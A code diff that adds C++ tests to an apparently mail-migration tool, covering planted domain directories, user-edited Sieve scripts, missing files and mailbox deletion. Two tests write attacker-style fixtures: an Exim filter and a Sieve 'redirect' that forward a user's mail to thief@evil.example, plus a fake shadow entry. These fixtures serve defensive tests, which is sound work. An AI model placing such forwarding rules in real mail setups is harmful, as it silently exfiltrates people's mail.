@@ -171,6 +171,67 @@ TEST_F(AccountPlaces, MailThatIsSpamThereIsJunkHereUnlessToldOtherwise) {
   EXPECT_TRUE(exists(at("w/example.com/bob/Maildir/.spam")));
 }
 
+TEST_F(AccountPlaces, ADomainThatOnlyADirectoryClaimsIsNobodysOfTheAccount) {
+  make();
+  const std::string home = at("old") + facts_.plan.home;
+  stdfs::create_directories(home + "/etc/victim.example/bob");
+  write_file(home + "/etc/victim.example/passwd", "bob:x:1:1::/home/x/mail/victim.example/bob:/bin/false\n");
+  write_file(home + "/etc/victim.example/shadow", "bob:$6$thief$thief:19000::::::\n");
+  write_file(home + "/etc/victim.example/bob/filter", "# Exim filter\nif true then deliver thief@evil.example endif\n");
+  make_maildir(home + "/mail/victim.example/bob");
+  write_file(home + "/mail/victim.example/bob/cur/1.a:2,", "Subject: planted\n\n");
+  if (is_root()) give_tree(home, somebody);
+  const Result result = run(words());
+  EXPECT_EQ(result.status, status::some_failed);
+  EXPECT_TRUE(holds(result.out, "bob@victim.example"));
+  EXPECT_FALSE(exists(at("v/victim.example")));
+  for (const auto& [path, text] : files()) EXPECT_EQ(text.find("victim.example"), std::string::npos) << path;
+}
+
+TEST_F(AccountPlaces, AScriptThatItsUserChangedIsHisAloneAndTheOthersKeepTheirs) {
+  make();
+  const std::vector<std::string> sync_words{"sync",       "--src-root",        at("old"), account(), "vmail:" + at("v"),
+                                            "--settings", "dovecot:" + at("d")};
+  run(sync_words);
+  const auto script_of = [&](const std::string& user) { return at("v/example.com/" + user + "/sieve/mailhaul.sieve"); };
+  const std::string others = read_file(script_of("sal"));
+  ASSERT_NE(others.find("begin spam-box"), std::string::npos) << others;
+  std::string own = read_file(script_of("bob"));
+  own.insert(own.find("# mailhaul: end spam-box"), "redirect \"thief@evil.example\";\n");
+  write_file(script_of("bob"), own);
+  // Anything else that changes makes a run look at all scripts.
+  write_file(at("old") + facts_.plan.home + "/etc/example.com/quota", "sal:777\n");
+  run(sync_words);
+  EXPECT_EQ(read_file(script_of("bob")), own);
+  EXPECT_EQ(read_file(script_of("sal")), others);
+}
+
+TEST_F(AccountPlaces, FilesThatAreGoneAreALossAndNoWish) {
+  make();
+  run(words());
+  const auto before = files();
+  stdfs::remove(at("d/users"));
+  const Result asked = run(words());
+  EXPECT_EQ(asked.status, status::guarded);
+  EXPECT_TRUE(holds(asked.err, "--restore-missing"));
+  EXPECT_FALSE(exists(at("d/users")));
+  run(words({"--restore-missing"}));
+  EXPECT_EQ(files(), before);
+}
+
+TEST_F(AccountPlaces, OneMailboxThatIsChosenTakesNoOtherAway) {
+  make();
+  run(words());
+  const std::string users = read_file(at("d/users"));
+  const std::string home = at("old") + facts_.plan.home;
+  std::string passwd;
+  for (const std::string& line : lines_of(read_file(home + "/etc/example.com/passwd")))
+    if (!line.starts_with("bob:")) passwd += line + "\n";
+  write_file(home + "/etc/example.com/passwd", passwd);
+  run(words({"--mailbox", "sal@example.com", "--delete"}));
+  EXPECT_EQ(read_file(at("d/users")), users);
+}
+
 TEST_F(AccountPlaces, PlacesThatMakeNoSenseAreRefusedInOneLine) {
   make();
   expect_one_line(run({"settings", account(), "--settings", "exim:/etc"}), "exim:/etc");
